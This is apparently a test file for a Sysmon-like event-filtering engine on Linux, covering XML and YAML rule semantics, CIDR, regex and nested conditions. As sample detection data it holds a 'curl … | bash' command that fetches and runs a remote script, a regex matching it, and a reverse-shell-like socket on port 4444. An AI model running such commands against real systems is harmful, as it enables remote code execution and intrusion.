/** What the rules mean, case by case: the quirks of Sysmon, the differences of 'linux', and what YAML adds. */
import { describe, expect, it } from 'vitest';
import { compile, ConfigError, parseConfig, type Compatibility, type RuleEvent } from '../../../lib/config/index.js';

const xml = (body: string, version = '4.90'): string =>
  `<Sysmon schemaversion="${version}"><EventFiltering>${body}</EventFiltering></Sysmon>`;
const or = (body: string, name = ''): string => `<RuleGroup name="${name}" groupRelation="or">${body}</RuleGroup>`;
const exec = (data: Record<string, unknown>, more: object = {}): RuleEvent => ({
  type: 'ProcessCreate',
  id: 1,
  data,
  ...more,
});

function judge(source: string, event: RuleEvent, compatibility: Compatibility = 'linux') {
  return compile(parseConfig(source), { compatibility }).evaluate(event);
}

/** Whether one condition of YAML holds for an event. */
function holds(condition: string, event: RuleEvent): boolean {
  return judge(`rules: [{ event: ProcessCreate, onmatch: include, match: [${condition}] }]`, event).verdict === 'log';
}

describe('deciding', () => {
  const image = (value: string): string => `<Image condition="end with">${value}</Image>`;

  it('falls back to the default of the type', () => {
    const rules = compile(parseConfig(xml('')));
    const verdicts = [1, 3, 5, 11, 110].map((id) => rules.evaluate({ type: '', id, data: {} }).verdict);
    expect(verdicts).toEqual(['log', 'drop', 'log', 'drop', 'drop']);
    expect(rules.evaluate({ type: 'Error', id: 255, data: {} })).toEqual({
      verdict: 'log',
      reason: 'default',
      ruleName: '-',
      rules: [],
    });
  });

  it('lets exclude beat include, and drops what nothing matches if there are two elements', () => {
    const source = xml(
      or(`<ProcessCreate onmatch="include">${image('sh')}</ProcessCreate>`) +
        or(`<ProcessCreate onmatch="exclude">${image('bash')}</ProcessCreate>`),
    );
    expect(judge(source, exec({ Image: '/bin/bash' }))).toMatchObject({ verdict: 'drop', reason: 'exclude' });
    expect(judge(source, exec({ Image: '/bin/dash' }))).toMatchObject({ verdict: 'log', reason: 'include' });
    expect(judge(source, exec({ Image: '/bin/ls' }))).toMatchObject({ verdict: 'drop', reason: 'unmatched' });
  });

  it('drops everything with two exclude elements', () => {
    const one = or(`<ProcessCreate onmatch="exclude">${image('bash')}</ProcessCreate>`);
    expect(judge(xml(one), exec({ Image: '/bin/ls' })).verdict).toBe('log');
    expect(judge(xml(one + one), exec({ Image: '/bin/ls' })).verdict).toBe('drop');
  });

  it('knows the two empty elements', () => {
    expect(judge(xml('<ProcessCreate onmatch="include"/>'), exec({})).verdict).toBe('drop');
    expect(judge(xml('<FileCreate onmatch="exclude"/>'), { type: 'FileCreate', data: {} }).verdict).toBe('log');
  });

  it('takes the last of several includes first, and names what held', () => {
    const source = xml(
      or(`<ProcessCreate onmatch="include"><Rule name="first">${image('sh')}</Rule></ProcessCreate>`, 'g1') +
        or(
          `<ProcessCreate onmatch="include">${image('bash')}<CommandLine condition="contains" name="own">x</CommandLine></ProcessCreate>`,
          'g2',
        ),
    );
    const verdict = judge(source, exec({ Image: '/bin/bash', CommandLine: 'x' }));
    expect(verdict).toEqual({ verdict: 'log', reason: 'include', ruleName: 'g2', rules: ['first', 'g2', 'own'] });
  });

  it('shows a name from a rule that did not hold only in exact mode', () => {
    const source = xml(
      or(
        '<ProcessCreate onmatch="include"><Rule groupRelation="and" name="other"><Image>a</Image><User>nobody</User></Rule>' +
          '<CommandLine condition="contains">x</CommandLine></ProcessCreate>',
      ),
    );
    const event = exec({ Image: 'a', User: 'root', CommandLine: 'x' });
    expect(judge(source, event, 'exact').ruleName).toBe('other');
    expect(judge(source, event, 'linux').ruleName).toBe('-');
  });

  it('shares the rules of DriverLoad and ModuleLoad, and of a series', () => {
    for (const tag of ['DriverLoad', 'ModuleLoad']) {
      const source = xml(or(`<${tag} onmatch="include"><ImageLoaded condition="end with">x.ko</ImageLoaded></${tag}>`));
      expect(judge(source, { type: 'ModuleLoad', data: { ImageLoaded: '/lib/x.ko' } }).verdict).toBe('log');
    }
    const pipes = compile(parseConfig(xml(or('<PipeEvent onmatch="include"><PipeName>p</PipeName></PipeEvent>'))));
    expect([17, 18].map((id) => pipes.evaluate({ type: 'PipeEvent', id, data: { PipeName: 'P' } }).verdict)).toEqual([
      'log',
      'log',
    ]);
    // A field that an event of the series does not have never matches, negated or not.
    const registry = xml(
      or('<RegistryEvent onmatch="include"><Details condition="is not">x</Details></RegistryEvent>'),
    );
    expect(judge(registry, { type: 'RegistryEvent', id: 13, data: {} }).verdict).toBe('log');
    expect(judge(registry, { type: 'RegistryEvent', id: 12, data: {} }).verdict).toBe('drop');
  });
});

describe('differences between linux and exact', () => {
  const one = (condition: string, value: string, field = 'Image'): string =>
    xml(or(`<ProcessCreate onmatch="include"><${field} condition="${condition}">${value}</${field}></ProcessCreate>`));
  const both = (source: string, event: RuleEvent): string[] => [
    judge(source, event, 'linux').verdict,
    judge(source, event, 'exact').verdict,
  ];

  it('image splits at a slash', () => {
    expect(both(one('image', 'bash'), exec({ Image: '/usr/bin/bash' }))).toEqual(['log', 'drop']);
    expect(both(one('image', '/usr/bin/bash'), exec({ Image: '/usr/bin/bash' }))).toEqual(['log', 'log']);
    expect(both(one('image', 'x.exe'), exec({ Image: 'C:\\x.exe' }))).toEqual(['log', 'log']);
    expect(both(one('image', 'C:\\x.exe'), exec({ Image: 'c:\\X.EXE' }))).toEqual(['log', 'log']);
  });

  it('less and more than compare numbers', () => {
    const event = exec({ ProcessId: 9 });
    expect(both(one('more than', '80', 'ProcessId'), event)).toEqual(['drop', 'log']);
    expect(both(one('less than', '80', 'ProcessId'), event)).toEqual(['log', 'drop']);
    expect(both(one('more than', 'a', 'User'), exec({ User: 'B' }))).toEqual(['log', 'log']);
  });
});

describe('what YAML adds', () => {
  it('numbers', () => {
    const event = exec({ ProcessId: 42, Image: 'x' });
    expect(
      ['lt: 43', 'le: 42', 'ge: 42', 'gt: 0x29', 'eq: 42.0', 'ne: 41'].map((c) =>
        holds(`{ ProcessId: { ${c} } }`, event),
      ),
    ).toEqual(Array(6).fill(true));
    expect(['lt: 42', 'gt: 42', 'eq: 41', 'ne: 42'].map((c) => holds(`{ ProcessId: { ${c} } }`, event))).toEqual(
      Array(4).fill(false),
    );
    // What is no number has no order and no inequality.
    expect(holds('{ Image: { ne: 1 } }', event)).toBe(false);
  });

  it('networks', () => {
    const on = (ip: string, network: string): boolean =>
      judge(`rules: [{ event: NetworkConnect, onmatch: include, match: [{ DestinationIp: { cidr: ${network} } }] }]`, {
        type: 'NetworkConnect',
        data: { DestinationIp: ip },
      }).verdict === 'log';
    expect(on('10.1.2.3', '10.0.0.0/8')).toBe(true);
    expect(on('11.1.2.3', '[10.0.0.0/8, 11.1.2.3]')).toBe(true);
    expect(on('192.168.1.129', '192.168.1.128/25')).toBe(true);
    expect(on('192.168.1.127', '192.168.1.128/25')).toBe(false);
    expect(on('fe80:0:0:0:0:0:0:1', '"fe80::/10"')).toBe(true);
    expect(on('2001:db8:0:0:0:0:0:1', '"2001:db8::/33"')).toBe(true);
    expect(on('0:0:0:0:0:ffff:a01:203', '10.0.0.0/8')).toBe(true);
    expect(on('10.1.2.3', '"::/0"')).toBe(false);
    expect(on('-', '0.0.0.0/0')).toBe(false);
  });

  it('regular expressions', () => {
    const event = exec({ CommandLine: 'curl -s http://203.0.113.5/x.SH | bash', User: 'josé' });
    expect(holds('{ CommandLine: { regex: "https?://[0-9.]+/.*\\\\.sh" } }', event)).toBe(true);
    expect(holds('{ CommandLine: { regex: "^bash" } }', event)).toBe(false);
    expect(holds('{ CommandLine: { regex: "(?-i)\\\\.sh" } }', event)).toBe(false);
    expect(holds('{ User: { regex: "^JOS.$" } }', event)).toBe(true);
  });

  it('any, all, not, nested', () => {
    const event = exec({ Image: '/bin/sh', User: 'root', CommandLine: 'sh -c x' });
    expect(
      holds(
        '{ all: [{ Image: /bin/sh }, { not: { User: nobody } }, { any: [{ CommandLine: y }, { CommandLine: { contains: -c } }] }] }',
        event,
      ),
    ).toBe(true);
    expect(holds('{ not: [{ Image: /bin/ls }, { User: root }] }', event)).toBe(false);
    expect(holds('{ all: [{ CommandLine: { contains: sh } }, { CommandLine: { contains: zz } }] }', event)).toBe(false);
  });

  it('fields beside data, with several values', () => {
    const parent = { pid: 2, image: '/usr/sbin/sshd', commandLine: 'sshd', parent: { pid: 1, image: '/sbin/init' } };
    const process = {
      euid: 0,
      argv: ['sh', '-c', 'id'],
      container: { id: 'abc' },
      memfd: true,
      capabilities: { gained: ['CAP_SYS_ADMIN'] },
      env: { LD_PRELOAD: '/x' },
      stdio: [
        { fd: 0, kind: 'socket', target: '203.0.113.5:4444' },
        { fd: 1, kind: 'file' },
      ],
      origin: { destination: '198.51.100.7' },
      parent,
    };
    const event = exec(
      { Image: '/bin/sh' },
      {
        process,
        extra: {
          exitCode: 3,
          file: { size: 9000 },
          netns: 4026531840,
          nlink: 0,
          directory: true,
          access: 'read',
          device: '8:1',
        },
      },
    );
    for (const yes of [
      '{ process.container.id: { is not: "-" } }',
      '{ process.euid: 0 }',
      '{ process.argv: -C }',
      '{ process.ancestors.image: { end with: /sshd } }',
      '{ process.ancestors.image: /sbin/init }',
      '{ process.parent.image: /usr/sbin/sshd }',
      '{ process.memfd: true }',
      '{ process.capabilities.gained: CAP_SYS_ADMIN }',
      '{ process.env.LD_PRELOAD: /x }',
      '{ process.stdio.kind: socket }',
      '{ process.origin.destination: { cidr: 198.51.100.0/24 } }',
      '{ extra.exitCode: { gt: 2 } }',
      '{ extra.netns: 4026531840 }',
      '{ extra.nlink: { lt: 1 } }',
      '{ extra.directory: true }',
      '{ extra.access: read }',
      '{ extra.device: "8:1" }',
    ]) {
      expect([yes, holds(yes, event)]).toEqual([yes, true]);
    }
    for (const no of [
      '{ process.container.id: "-" }',
      '{ process.ancestors.image: { is not: /sbin/init } }',
      '{ process.remote.address: { is not: "-" } }',
      '{ extra.errno: { eq: 0 } }',
      '{ extra.file.size: { more than: 10000 } }',
    ]) {
      expect([no, holds(no, event)]).toEqual([no, false]);
    }
    // The record as JSON has it.
    const json = exec(
      {},
      {
        process: {
          ancestors: [
            { pid: 2, image: '/usr/sbin/sshd' },
            { pid: 1, image: '/sbin/init' },
          ],
        },
      },
    );
    expect(holds('{ process.ancestors.image: /sbin/init }', json)).toBe(true);
    expect(holds('{ process.parent.image: /usr/sbin/sshd }', json)).toBe(true);
  });

  it('refuses a bad regular expression with its place', () => {
    const ruleSet = parseConfig(
      'rules:\n  - event: ProcessCreate\n    onmatch: include\n    match:\n      - Image: /bin/a\n      - Image: { regex: "a(" }\n',
    );
    expect(() => compile(ruleSet)).toThrow(ConfigError);
    expect(() => compile(ruleSet)).toThrow(/^6:9: regular expression 'a\('/);
  });
});
